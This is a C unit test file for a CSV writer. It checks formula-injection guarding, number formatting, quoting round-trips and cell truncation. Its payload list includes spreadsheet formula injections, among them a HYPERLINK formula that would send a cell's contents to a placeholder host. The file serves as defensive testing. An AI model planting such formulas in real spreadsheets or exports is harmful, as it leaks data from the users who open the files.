/*
 * test_csv.c - pf_csv: exact cell bytes, formula neutralisation (hazards
 * doc item 24), numbers, truncation, and a strict libcsv re-parse as the
 * oracle that quoting survives commas, quotes, CR and LF.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <limits.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <csv.h>

#include "pf_csv.h"

/* ---- a strict re-parse ------------------------------------------------------ */

#define MAX_ROWS 16
#define MAX_COLS 16

typedef struct parsed {
    char *field[MAX_ROWS][MAX_COLS];
    size_t len[MAX_ROWS][MAX_COLS];
    size_t cols[MAX_ROWS];
    size_t rows;
} parsed_t;

static void on_field(void *s, size_t len, void *data)
{
    parsed_t *p = data;
    assert_true(p->rows < MAX_ROWS);
    size_t c = p->cols[p->rows]++;
    assert_true(c < MAX_COLS);
    p->field[p->rows][c] = malloc(len + 1);
    if (len) memcpy(p->field[p->rows][c], s, len);
    p->field[p->rows][c][len] = '\0';
    p->len[p->rows][c] = len;
}

static void on_row(int c, void *data)
{
    (void)c;
    parsed_t *p = data;
    p->rows++;
}

/* Parses bytes with CSV_STRICT|CSV_STRICT_FINI and fails the test on any
 * error or on rows of unequal length. */
static void strict_parse(const char *bytes, size_t n, parsed_t *p)
{
    memset(p, 0, sizeof *p);
    struct csv_parser parser;
    assert_int_equal(csv_init(&parser, CSV_STRICT | CSV_STRICT_FINI), 0);
    assert_int_equal(csv_parse(&parser, bytes, n, on_field, on_row, p), n);
    assert_int_equal(csv_fini(&parser, on_field, on_row, p), 0);
    csv_free(&parser);
    for (size_t r = 1; r < p->rows; r++)
        assert_int_equal(p->cols[r], p->cols[0]);
}

static void parsed_free(parsed_t *p)
{
    for (size_t r = 0; r < MAX_ROWS; r++)
        for (size_t c = 0; c < MAX_COLS; c++)
            free(p->field[r][c]);
}

/* The bytes pf_csv_text writes for one cell. */
static void one_cell(pf_buf_t *b, const char *s, size_t len)
{
    size_t cells = 0;
    pf_buf_reset(b);
    pf_csv_text(b, &cells, s, len);
    assert_int_equal(cells, 1);
}

static void assert_bytes(const pf_buf_t *b, const char *want, size_t want_len)
{
    assert_int_equal(b->len, want_len);
    assert_memory_equal(b->data, want, want_len);
}

#define ASSERT_BYTES(b, lit) assert_bytes((b), (lit), sizeof(lit) - 1)

/* ---- formula injection ---------------------------------------------------------- */

static const char *const payloads[] = {
    "=HYPERLINK(\"http://x/?\"&A1)",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "=1+2\";=1+2",
};
static const char *const payload_cells[] = {
    "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"",
    "\"'+1+1\"",
    "\"'-2+3\"",
    "\"'@SUM(1)\"",
    "\"'\t=1\"",
    "\"'\r=1\"",
    "\"'\n=1\"",
    "\"' =1\"",
    "\"'=1+2\"\";=1+2\"",
};
#define N_PAYLOADS (sizeof payloads / sizeof payloads[0])

static void test_formula_cells_exact(void **state)
{
    (void)state;
    pf_buf_t b;
    pf_buf_init(&b);
    for (size_t i = 0; i < N_PAYLOADS; i++) {
        one_cell(&b, payloads[i], strlen(payloads[i]));
        assert_string_equal(b.data, payload_cells[i]);
    }
    pf_buf_delete(&b);
}

static void test_formula_row_reparses(void **state)
{
    (void)state;
    pf_buf_t b;
    pf_buf_init(&b);
    pf_csv_style_t style = {.crlf = 1};
    size_t cells = 0;
    for (size_t i = 0; i < N_PAYLOADS; i++)
        pf_csv_text(&b, &cells, payloads[i], strlen(payloads[i]));
    assert_int_equal(cells, N_PAYLOADS);
    pf_csv_end_row(&b, &cells, &style);
    assert_int_equal(cells, 0);
    parsed_t p;
    strict_parse(b.data, b.len, &p);
    assert_int_equal(p.rows, 1);
    assert_int_equal(p.cols[0], N_PAYLOADS);
    for (size_t i = 0; i < N_PAYLOADS; i++) {
        assert_int_equal(p.field[0][i][0], '\'');
        assert_string_equal(p.field[0][i] + 1, payloads[i]);
    }
    parsed_free(&p);
    pf_buf_delete(&b);
}

static void test_harmless_text_untouched(void **state)
{
    (void)state;
    pf_buf_t b;
    pf_buf_init(&b);
    one_cell(&b, "hello", 5);
    ASSERT_BYTES(&b, "\"hello\"");
    one_cell(&b, "a=1", 3);
    ASSERT_BYTES(&b, "\"a=1\"");
    one_cell(&b, "  ok", 4);
    ASSERT_BYTES(&b, "\"  ok\"");
    one_cell(&b, "", 0);
    ASSERT_BYTES(&b, "\"\"");
    one_cell(&b, NULL, 0);
    ASSERT_BYTES(&b, "\"\"");
    one_cell(&b, "ID", 2); /* quoted, so Excel never takes the file for SYLK */
    ASSERT_BYTES(&b, "\"ID\"");
    one_cell(&b, "a\0b", 3); /* length, not strlen, decides */
    ASSERT_BYTES(&b, "\"a\0b\"");
    one_cell(&b, "x", 0); /* only len bytes are read */
    ASSERT_BYTES(&b, "\"\"");
    pf_buf_delete(&b);
}

/* Hazards item 25: numbers stay bare, the same strings as text are guarded. */
static void test_numeric_versus_text(void **state)
{
    (void)state;
    pf_buf_t b;
    pf_buf_init(&b);
    size_t cells = 0;
    pf_csv_int(&b, &cells, -5);
    pf_csv_num(&b, &cells, -0.5);
    pf_csv_text(&b, &cells, "-5", 2);
    pf_csv_text(&b, &cells, "-0.5", 4);
    pf_csv_text(&b, &cells, "-", 1);
    pf_csv_int(&b, &cells, 0);
    pf_csv_int(&b, &cells, 9223372036854775807LL);
    pf_csv_int(&b, &cells, -9223372036854775807LL - 1);
    assert_int_equal(cells, 8);
    pf_csv_end_row(&b, &cells, NULL);
    assert_string_equal(b.data, "-5,-0.5,\"'-5\",\"'-0.5\",\"'-\",0,9223372036854775807,"
                                "-9223372036854775808\n");
    pf_buf_delete(&b);
}

/* ---- numbers ---------------------------------------------------------------------- */

static void test_number_format(void **state)
{
    (void)state;
    static const struct {
        double v;
        const char *want;
    } cases[] = {
        {12, "12"},
        {12.5, "12.5"},
        {-0.25, "-0.25"},
        {0, "0"},
        {-0.0, "0"},
        {-0.001, "0"},
        {-1.5e-9, "0"},
        {0.004, "0"},
        {0.005, "0.01"}, /* binary value lies just above .005 */
        {2.675, "2.67"}, /* binary value lies just below .675 */
        {-12.345, "-12.35"},
        {0.1 + 0.2, "0.3"},
        {100, "100"},
        {1.10, "1.1"},
        {1e15, "1000000000000000"},
        {123456789012.346, "123456789012.35"},
    };
    pf_buf_t b;
    pf_buf_init(&b);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        size_t cells = 0;
        pf_buf_reset(&b);
        pf_csv_num(&b, &cells, cases[i].v);
        assert_int_equal(cells, 1);
        assert_string_equal(b.data, cases[i].want);
    }
    pf_buf_delete(&b);
}

/* Integer cells are written by hand (pf_buf_addint): the same text as
 * printf's %lld at the edges and in between. */
static void test_integers_as_printf(void **state)
{
    (void)state;
    long long cases[] = {
        0,     1,      -1,           9,         10,        -10,           99,           100,
        12345, -98765, 1000000007LL, LLONG_MAX, LLONG_MIN, LLONG_MIN + 1, LLONG_MAX - 1};
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        for (int k = 0; k < 2; k++) {
            long long v = k ? cases[i] / 7 : cases[i];
            char want[32];
            snprintf(want, sizeof want, "%lld", v);
            pf_buf_t b;
            size_t cells = 0;
            pf_buf_init(&b);
            pf_csv_int(&b, &cells, v);
            assert_string_equal(b.data, want);
            pf_buf_delete(&b);
        }
    }
}

static void test_number_not_finite(void **state)
{
    (void)state;
    pf_buf_t b;
    pf_buf_init(&b);
    size_t cells = 0;
    pf_csv_num(&b, &cells, NAN);
    pf_csv_num(&b, &cells, INFINITY);
    pf_csv_num(&b, &cells, -INFINITY);
    pf_csv_num(&b, &cells, 1.0e308 * 10);
    assert_int_equal(cells, 4);
    assert_string_equal(b.data, "\"\",\"\",\"\",\"\"");
    /* The largest double still prints whole: 309 digits. */
    pf_buf_reset(&b);
    cells = 0;
    pf_csv_num(&b, &cells, 1.7976931348623157e308);
    assert_int_equal(b.len, 309);
    assert_memory_equal(b.data, "17976931348623157", 17);
    pf_buf_delete(&b);
}

/* ---- quoting survives a strict parser --------------------------------------------- */

static const char *const awkward[] = {
    "a,b",
    "say \"hi\"",
    "line1\nline2",
    "cr\rhere",
    "crlf\r\nend",
    "",
    "plain",
    "\xE6\x97\xA5\xE6\x9C\xAC\xE8\xAA\x9E",
    "caf\xC3\xA9",
    "\"",
    ",",
    "  padded  ",
};
#define N_AWKWARD (sizeof awkward / sizeof awkward[0])

static void roundtrip_style(const pf_csv_style_t *style)
{
    static const char *const header[] = {"c0", "c1", "c2", "c3",  "c4",  "c5", "c6",
                                         "c7", "c8", "c9", "c10", "c11", NULL};
    pf_buf_t b;
    pf_buf_init(&b);
    pf_csv_header(&b, header, style);
    for (int row = 0; row < 3; row++) {
        size_t cells = 0;
        for (size_t i = 0; i < N_AWKWARD; i++) {
            const char *s = awkward[(i + row) % N_AWKWARD];
            pf_csv_text(&b, &cells, s, strlen(s));
        }
        pf_csv_end_row(&b, &cells, style);
    }
    const char *end = style->crlf ? "\"\r\n" : "\"\n";
    assert_memory_equal(b.data + b.len - strlen(end), end, strlen(end));
    parsed_t p;
    strict_parse(b.data, b.len, &p);
    assert_int_equal(p.rows, 4);
    assert_int_equal(p.cols[0], N_AWKWARD);
    for (size_t i = 0; i < N_AWKWARD; i++)
        assert_string_equal(p.field[0][i], header[i]);
    for (int row = 0; row < 3; row++) {
        for (size_t i = 0; i < N_AWKWARD; i++) {
            const char *s = awkward[(i + (size_t)row) % N_AWKWARD];
            assert_int_equal(p.len[row + 1][i], strlen(s));
            assert_string_equal(p.field[row + 1][i], s);
        }
    }
    parsed_free(&p);
    pf_buf_delete(&b);
}

static void test_roundtrip_lf(void **state)
{
    (void)state;
    pf_csv_style_t style = {0};
    roundtrip_style(&style);
}

static void test_roundtrip_crlf(void **state)
{
    (void)state;
    pf_csv_style_t style = {.crlf = 1};
    roundtrip_style(&style);
}

static void test_header_and_bom(void **state)
{
    (void)state;
    static const char *const names[] = {"ID", "=name", "say \"x\"", NULL};
    pf_csv_style_t excel = {.crlf = 1, .bom = 1, .guard = 1};
    pf_buf_t b;
    pf_buf_init(&b);
    pf_csv_begin_file(&b, &excel);
    pf_csv_header(&b, names, &excel);
    ASSERT_BYTES(&b, "\xEF\xBB\xBF\"ID\",\"'=name\",\"say \"\"x\"\"\"\r\n");

    pf_csv_style_t plain = {0};
    pf_buf_reset(&b);
    pf_csv_begin_file(&b, &plain);
    pf_csv_begin_file(&b, NULL);
    assert_int_equal(b.len, 0);
    pf_csv_header(&b, names, NULL);
    ASSERT_BYTES(&b, "\"ID\",\"'=name\",\"say \"\"x\"\"\"\n");
    pf_buf_delete(&b);
}

/* The guard is the spreadsheet's (--excel): data files keep the value, so
 * pandas reads "-Minus Holding AB"; ';' between cells also makes the
 * decimal mark a comma (Excel in such locales). */
static void test_guard_and_delimiter_per_style(void **state)
{
    (void)state;
    pf_csv_style_t data = {0}, sheet = {.crlf = 1, .bom = 1, .guard = 1},
                   semi = {.delimiter = ';', .guard = 1};
    pf_buf_t b;
    pf_buf_init(&b);
    size_t cells = 0;
    pf_csv_cell_text(&b, &cells, "-Minus Holding AB", 17, &data);
    pf_csv_cell_num(&b, &cells, 12.5, &data);
    pf_csv_end_row(&b, &cells, &data);
    ASSERT_BYTES(&b, "\"-Minus Holding AB\",12.5\n");
    pf_buf_reset(&b);
    pf_csv_cell_text(&b, &cells, "-Minus Holding AB", 17, &sheet);
    pf_csv_cell_num(&b, &cells, 12.5, &sheet);
    pf_csv_end_row(&b, &cells, &sheet);
    ASSERT_BYTES(&b, "\"'-Minus Holding AB\",12.5\r\n");
    pf_buf_reset(&b);
    pf_csv_cell_text(&b, &cells, "a;b", 3, &semi);
    pf_csv_cell_num(&b, &cells, -12.25, &semi);
    pf_csv_cell_int(&b, &cells, 7, &semi);
    pf_csv_cell_text(&b, &cells, "=1+1", 4, &semi);
    pf_csv_end_row(&b, &cells, &semi);
    ASSERT_BYTES(&b, "\"a;b\";-12,25;7;\"'=1+1\"\n");
    pf_buf_delete(&b);
}

/* ---- truncation -------------------------------------------------------------------- */

/* The parsed content of one text cell made from s. */
static char *cell_content(const char *s, size_t len, size_t *out_len)
{
    pf_buf_t b;
    pf_buf_init(&b);
    one_cell(&b, s, len);
    parsed_t p;
    strict_parse(b.data, b.len, &p);
    assert_int_equal(p.rows, 1);
    assert_int_equal(p.cols[0], 1);
    char *content = p.field[0][0];
    *out_len = p.len[0][0];
    p.field[0][0] = NULL;
    parsed_free(&p);
    pf_buf_delete(&b);
    return content;
}

static char *repeat(const char *unit, size_t times, size_t *len)
{
    size_t u = strlen(unit);
    char *s = malloc(u * times + 1);
    for (size_t i = 0; i < times; i++)
        memcpy(s + i * u, unit, u);
    s[u * times] = '\0';
    *len = u * times;
    return s;
}

/* Cuts a cell of `times` copies of unit and checks the result holds `kept`
 * copies, optionally after an apostrophe, then the marker. */
static void check_cut(const char *unit, size_t times, size_t kept, int guarded)
{
    size_t len, got_len;
    char *s = repeat(unit, times, &len);
    char *got = cell_content(s, len, &got_len);
    size_t u = strlen(unit), off = guarded ? 1 : 0;
    assert_int_equal(got_len, off + kept * u + 5);
    if (guarded) assert_int_equal(got[0], '\'');
    assert_memory_equal(got + off, s, kept * u);
    assert_memory_equal(got + off + kept * u, "[...]", 5);
    free(got);
    free(s);
}

static void test_truncation(void **state)
{
    (void)state;
    check_cut("x", 40000, PF_CSV_CELL_MAX - 5, 0);
    check_cut("x", PF_CSV_CELL_MAX + 1, PF_CSV_CELL_MAX - 5, 0);
    check_cut("=", 40000, PF_CSV_CELL_MAX - 6, 1);
    check_cut("\xC3\xA9", 40000, PF_CSV_CELL_MAX - 5, 0);               /* é: 2 bytes, 1 unit */
    check_cut("\xE6\x97\xA5", 40000, PF_CSV_CELL_MAX - 5, 0);           /* 日: 3 bytes, 1 unit */
    check_cut("\xF0\x9F\x98\x80", 20000, (PF_CSV_CELL_MAX - 5) / 2, 0); /* emoji: 2 units */
}

static void test_no_truncation_at_limit(void **state)
{
    (void)state;
    size_t len, got_len;
    char *s = repeat("\xC3\xA9", PF_CSV_CELL_MAX, &len);
    char *got = cell_content(s, len, &got_len);
    assert_int_equal(got_len, len);
    assert_memory_equal(got, s, len);
    free(got);
    free(s);
    /* A guarded cell at the limit is cut: the apostrophe counts too. */
    check_cut("-", PF_CSV_CELL_MAX, PF_CSV_CELL_MAX - 6, 1);
    s = repeat("-", PF_CSV_CELL_MAX - 1, &len);
    got = cell_content(s, len, &got_len);
    assert_int_equal(got_len, PF_CSV_CELL_MAX);
    assert_int_equal(got[0], '\'');
    assert_memory_equal(got + 1, s, len);
    free(got);
    free(s);
}

/* Whole numbers are written without snprintf: the same text as the %.2f
 * path gives, trailing zeros trimmed, up to where the shortcut stops. */
static void test_whole_numbers_as_printf(void **state)
{
    (void)state;
    double cases[] = {1,
                      -1,
                      7,
                      -15,
                      1e9,
                      -1e9,
                      123456789,
                      999999999999999.0,
                      -999999999999999.0,
                      1e15,
                      4503599627370496.0,
                      -0.0,
                      0};
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        char want[400];
        snprintf(want, sizeof want, "%.2f", cases[i]);
        char *dot = strchr(want, '.');
        *dot = '\0'; /* a whole number: ".00" */
        if (strcmp(want, "-0") == 0) strcpy(want, "0");
        pf_buf_t b;
        size_t cells = 0;
        pf_buf_init(&b);
        pf_csv_num(&b, &cells, cases[i]);
        assert_string_equal(b.data, want);
        pf_buf_delete(&b);
    }
}

/* With ';' a whole number has always come out as "12,00" (the comma put
 * over the dot also overwrites the end the trimming left): the shortcut
 * for whole numbers must not change those bytes. */
static void test_semicolon_numbers_unchanged(void **state)
{
    (void)state;
    pf_csv_style_t semi = {0, 0, ';', 0};
    pf_buf_t b;
    size_t cells = 0;
    pf_buf_init(&b);
    pf_csv_cell_num(&b, &cells, 12.0, &semi);
    pf_csv_cell_num(&b, &cells, 12.5, &semi);
    pf_csv_cell_num(&b, &cells, -3.0, &semi);
    assert_string_equal(b.data, "12,00;12,5;-3,00");
    pf_buf_delete(&b);
}

/* Quoted cells and escaped pieces are csv_write's bytes, with a quote
 * inside or without (the shortcut for text without one). */
static void test_quoting_as_csv_write(void **state)
{
    (void)state;
    const char *texts[] = {"plain text", "say \"hi\"", "\"", "a,b\nc", "x", "\"\"\""};
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++) {
        size_t len = strlen(texts[i]);
        char want[64];
        size_t n = csv_write(want, sizeof want, texts[i], len);
        pf_buf_t b;
        size_t cells = 0;
        pf_buf_init(&b);
        pf_csv_cell_text(&b, &cells, texts[i], len, &(pf_csv_style_t){0, 0, ',', 0});
        assert_int_equal(b.len, n);
        assert_memory_equal(b.data, want, n);
        pf_buf_reset(&b);
        cells = 0;
        pf_csv_cell_open(&b, &cells, NULL);
        pf_csv_add_escaped(&b, texts[i], len);
        pf_csv_cell_close(&b);
        assert_int_equal(b.len, n);
        assert_memory_equal(b.data, want, n);
        pf_buf_delete(&b);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_formula_cells_exact),
        cmocka_unit_test(test_formula_row_reparses),
        cmocka_unit_test(test_harmless_text_untouched),
        cmocka_unit_test(test_numeric_versus_text),
        cmocka_unit_test(test_number_format),
        cmocka_unit_test(test_number_not_finite),
        cmocka_unit_test(test_integers_as_printf),
        cmocka_unit_test(test_whole_numbers_as_printf),
        cmocka_unit_test(test_quoting_as_csv_write),
        cmocka_unit_test(test_semicolon_numbers_unchanged),
        cmocka_unit_test(test_roundtrip_lf),
        cmocka_unit_test(test_roundtrip_crlf),
        cmocka_unit_test(test_header_and_bom),
        cmocka_unit_test(test_guard_and_delimiter_per_style),
        cmocka_unit_test(test_truncation),
        cmocka_unit_test(test_no_truncation_at_limit),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
